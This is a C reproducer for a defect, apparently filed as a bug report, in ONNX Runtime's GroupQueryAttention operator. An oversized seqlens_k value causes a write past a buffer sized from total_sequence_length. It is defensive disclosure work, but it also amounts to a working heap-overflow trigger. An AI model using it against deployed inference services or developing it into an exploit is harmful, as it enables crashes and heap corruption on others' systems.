/*
 * ort-005 reproducer: GroupQueryAttention does not check seqlens_k against
 * total_sequence_length and, on its f16 path with an attention_bias,
 * writes past the end of a buffer it sized from total_sequence_length.
 *
 * Node: com.microsoft GroupQueryAttention, f16, num_heads 1, kv_num_heads
 * 1, head size 64, B 3, S 1 (token generation), past and present sharing
 * one buffer of 200 rows, attention_bias (3, 1, 1, 101),
 * total_sequence_length 101 and seqlens_k {100, 101, 2}: entry 1 claims
 * 102 keys where the scalar says the longest entry has 101.  ORT's buffers
 * come from a registered allocator whose blocks end flush against a
 * PROT_NONE page (ort-repro.h): the write past the 101-float (404-byte)
 * block faults.  With ORT's own allocator it corrupts the heap silently.
 *
 *     cc -O1 -g ort-005.c -ldl -o ort-005 && ./ort-005 [libonnxruntime.so.1]
 *
 * Exit: killed by SIGSEGV when the defect reproduces; 0 when Run returns
 * (an INVALID_ARGUMENT status is the expected answer).
 */
#include "ort-repro.h"

enum { B = 3, D = 64, M = 200, TOT = 101 };

static uint16_t half(float f) {   /* small exact values only: 0 and +-k/8, |k| < 64 */
    if (f == 0.0f) return 0;
    const int neg = f < 0;
    float a = neg ? -f : f;
    int e = 0;
    while (a >= 2.0f) a *= 0.5f, e++;
    while (a < 1.0f) a *= 2.0f, e--;
    return (uint16_t)((neg << 15) | ((e + 15) << 10) | (int)((a - 1.0f) * 1024.0f));
}

int main(int argc, char **argv) {
    r_load(argc, argv);
    const onnx_value in[11] = {
        {"query", ORTA_T_FLOAT16, 3, {{B, NULL}, {1, NULL}, {D, NULL}}},
        {"key", ORTA_T_FLOAT16, 3, {{B, NULL}, {1, NULL}, {D, NULL}}},
        {"value", ORTA_T_FLOAT16, 3, {{B, NULL}, {1, NULL}, {D, NULL}}},
        {"past_key", ORTA_T_FLOAT16, 4, {{B, NULL}, {1, NULL}, {M, NULL}, {D, NULL}}},
        {"past_value", ORTA_T_FLOAT16, 4, {{B, NULL}, {1, NULL}, {M, NULL}, {D, NULL}}},
        {"seqlens_k", ORTA_T_INT32, 1, {{B, NULL}}},
        {"total_sequence_length", ORTA_T_INT32, 0, {{0, NULL}}},
        {"", 0, 0, {{0, NULL}}}, {"", 0, 0, {{0, NULL}}}, {"", 0, 0, {{0, NULL}}},
        {"attention_bias", ORTA_T_FLOAT16, 4, {{B, NULL}, {1, NULL}, {1, NULL}, {TOT, NULL}}}};
    const onnx_value out[3] = {
        {"output", ORTA_T_FLOAT16, 3, {{B, NULL}, {1, NULL}, {D, NULL}}},
        {"present_key", ORTA_T_FLOAT16, 4, {{B, NULL}, {1, NULL}, {M, NULL}, {D, NULL}}},
        {"present_value", ORTA_T_FLOAT16, 4, {{B, NULL}, {1, NULL}, {M, NULL}, {D, NULL}}}};
    const onnx_attr at[2] = {{"num_heads", ONNX_ATTR_INT, 0, 1}, {"kv_num_heads", ONNX_ATTR_INT, 0, 1}};
    const onnx_node_model m = {10, 21, 1, "GroupQueryAttention", "com.microsoft", in, 11, out, 3, at, 2};
    OrtSession *s = r_session(&m, &R_guarded);

    static uint16_t q[B * D], k[B * D], v[B * D], pk[B * M * D], pv[B * M * D], bias[B * TOT], y[B * D];
    static int32_t seqlens[B] = {TOT - 1, TOT, 2}, total = TOT;
    for (int i = 0; i < B * D; i++) q[i] = half((float)(i % 9 - 4) / 8), k[i] = half((float)(i % 5) / 8);
    for (int i = 0; i < B * M * D; i++) pk[i] = half((float)(i % 7 - 3) / 8), pv[i] = half((float)(i % 3) / 8);
    const int64_t sq[3] = {B, 1, D}, sp[4] = {B, 1, M, D}, ss[1] = {B}, sb[4] = {B, 1, 1, TOT};
    const OrtValue *iv[8] = {r_tensor(q, sizeof q, sq, 3, ORTA_T_FLOAT16), r_tensor(k, sizeof k, sq, 3, ORTA_T_FLOAT16),
                             r_tensor(v, sizeof v, sq, 3, ORTA_T_FLOAT16), r_tensor(pk, sizeof pk, sp, 4, ORTA_T_FLOAT16),
                             r_tensor(pv, sizeof pv, sp, 4, ORTA_T_FLOAT16),
                             r_tensor(seqlens, sizeof seqlens, ss, 1, ORTA_T_INT32),
                             r_tensor(&total, sizeof total, NULL, 0, ORTA_T_INT32),
                             r_tensor(bias, sizeof bias, sb, 4, ORTA_T_FLOAT16)};
    const char *const inn[8] = {"query", "key", "value", "past_key", "past_value", "seqlens_k",
                                "total_sequence_length", "attention_bias"};
    const char *const outn[3] = {"output", "present_key", "present_value"};
    /* past and present share their buffers: ORT appends in place */
    OrtValue *ov[3] = {r_tensor(y, sizeof y, sq, 3, ORTA_T_FLOAT16), (OrtValue *)iv[3], (OrtValue *)iv[4]};
    printf("Run with seqlens_k {%d, %d, %d}, total_sequence_length %d ...\n", seqlens[0], seqlens[1],
           seqlens[2], total);
    fflush(stdout);
    OrtStatus *st = F.Run(s, NULL, inn, iv, 8, outn, 3, ov);
    printf("Run returned %s: not reproduced\n", st ? F.GetErrorMessage(st) : "OK");
    return 0;
}
